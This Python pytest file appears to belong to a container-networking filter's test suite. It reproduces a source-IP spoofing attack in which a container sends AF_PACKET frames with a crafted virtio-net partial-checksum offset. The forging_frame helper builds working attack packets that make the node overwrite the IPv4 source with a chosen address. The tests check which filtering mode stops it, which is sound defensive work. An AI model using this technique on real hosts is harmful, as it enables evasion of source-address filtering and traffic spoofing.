"""A container's root asks the node to compute a checksum over its packet's source address.

AF_PACKET with PACKET_VNET_HDR lets it send a frame marked CHECKSUM_PARTIAL with any csum_start and
csum_offset (virtio_net_hdr_to_skb checks only that they lie inside the packet). Aimed at the IPv4
source, the packet is judged with its own source, and later, wherever the node computes checksums
in software (IP fragmentation, a device without checksum offload) or hardware fills them in at the
offset it is given, the sum -- which the container chose through its payload -- is written over the
source's low 16 bits. Found by the hostile review of rules/tc (tests/rules/test_tc_attacks.py).
"""

from __future__ import annotations

import socket
import struct
import time

import pytest

from tests.e2e.conftest import ADDRESSES, OUTSIDE_V4, ip
from tests.e2e.traffic import UdpEcho, in_netns
from tests.e2e.wire import _checksum

pytestmark = pytest.mark.netns

PORT = 7950
OWN = ADDRESSES["101"][0]
FORGED = "192.0.2.250"
PACKET_VNET_HDR, SOL_PACKET = 15, 263
NEEDS_CSUM = 1
UPLINK_MTU = 1280


def _ones_sum(data: bytes) -> int:
    """The folded one's-complement sum (not yet complemented)."""
    return ~_checksum(data) & 0xFFFF


def _ipv4(source: str, destination: str, payload: bytes) -> bytes:
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0x4242, 0, 64, 17, 0,
                         socket.inet_aton(source), socket.inet_aton(destination))
    return header[:10] + struct.pack("!H", ~_ones_sum(header) & 0xFFFF) + header[12:] + payload


def forging_frame(mac: bytes) -> bytes:
    """vnet header + an own-source UDP datagram too big for the uplink, whose partial checksum,
    once computed, is the low half of FORGED and is written over the source's low half."""
    data = bytearray(1400)
    frame = bytearray(mac + mac + b"\x08\x00" + _ipv4(OWN, OUTSIDE_V4, struct.pack("!HHHH", 5000, PORT,
                                                                                   8 + len(data), 0) + data))
    start, offset = 14 + 12, 2  # the sum runs from the source address and lands on its low half
    want = struct.unpack("!H", socket.inet_aton(FORGED)[2:])[0]
    word_at = 14 + 20 + 8 + 100  # a payload word no header checksum covers
    word = ((~want & 0xFFFF) - _ones_sum(bytes(frame[start:]))) % 0xFFFF
    frame[word_at:word_at + 2] = struct.pack("!H", word)
    assert ~_ones_sum(bytes(frame[start:])) & 0xFFFF == want
    return struct.pack("<BBHHHH", NEEDS_CSUM, 0, 0, 0, start, offset) + bytes(frame)


def control_frame(mac: bytes) -> bytes:
    """The same datagram with its partial checksum where it belongs (UDP, offset 6)."""
    data = bytes(1400)
    segment = struct.pack("!HHHH", 5000, PORT, 8 + len(data), 0) + data
    pseudo = socket.inet_aton(OWN) + socket.inet_aton(OUTSIDE_V4) + struct.pack("!xBH", 17, len(segment))
    segment = segment[:6] + struct.pack("!H", _ones_sum(pseudo)) + segment[8:]
    return struct.pack("<BBHHHH", NEEDS_CSUM, 0, 0, 0, 14 + 20, 6) + mac + mac + b"\x08\x00" + \
        _ipv4(OWN, OUTSIDE_V4, segment)


def _arrivals_of_forging_frames(stack) -> list[str]:
    """The sources the outside host sees for one control datagram and three forging ones from 101,
    with the node's uplink MTU below the datagrams' size (the node fragments them)."""
    ip("-n", stack.host, "link", "set", "up0", "mtu", str(UPLINK_MTU))
    echo = UdpEcho(stack.outside, OUTSIDE_V4, PORT)
    sock = in_netns(stack.containers["101"], lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
    try:
        sock.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
        sock.bind(("venet0", 0))
        mac = sock.getsockname()[4]
        sock.send(control_frame(mac))
        for _ in range(3):
            sock.send(forging_frame(mac))
        time.sleep(0.5)
    finally:
        sock.close()
        echo.close()
    sources = [source for _, source in echo.arrivals]
    print(f"\narrivals at the outside host: {sources}")
    assert OWN in sources, "control: the datagram with its checksum at the UDP field did not arrive"
    return sources


def test_queue_mode_judges_the_checksummed_bytes(queue_stack):
    """The queue mode binds its queue without F_GSO: the kernel completes a partial checksum before
    it queues the packet, so the worker sees the rewritten source and refuses it. (With F_GSO, as
    before, the forged source reached the outside host.)"""
    sources = _arrivals_of_forging_frames(queue_stack)
    assert set(sources) == {OWN}, f"a source was rewritten after the judgement: {sources}"


@pytest.mark.xfail(strict=True, reason=(
    "the default mode judges a CHECKSUM_PARTIAL packet from a container (AF_PACKET + PACKET_VNET_HDR, "
    "csum_start 26, csum_offset 2) by its own source and passes it; when the node fragments it for a smaller "
    "uplink MTU, skb_checksum_help writes the sum the container chose over the low half of the IPv4 source and "
    "the outside host receives three datagrams from 192.0.2.250. Hardware that fills in checksums at "
    "csum_start+csum_offset does the same on the wire. nftables cannot see csum_start. Fix: refuse a "
    "CHECKSUM_PARTIAL packet whose checksum starts inside the IP header, as rules/tc's filter does (it reads "
    "sk_buff's ip_summed, csum_start and network_header through the bpf_cast_to_kern_ctx kfunc at offsets "
    "from the kernel's BTF; tests/rules/test_tc_attacks.py), once the default mode uses it. A container without CAP_NET_ADMIN could also be held off by "
    "switching off transmit checksum offload on its end of the link (then its own kernel completes the "
    "checksum before the packet crosses); one with it can switch it back on"))
def test_default_mode_judges_the_checksummed_bytes(stack):
    sources = _arrivals_of_forging_frames(stack)
    assert set(sources) == {OWN}, f"a source was rewritten after the judgement: {sources}"
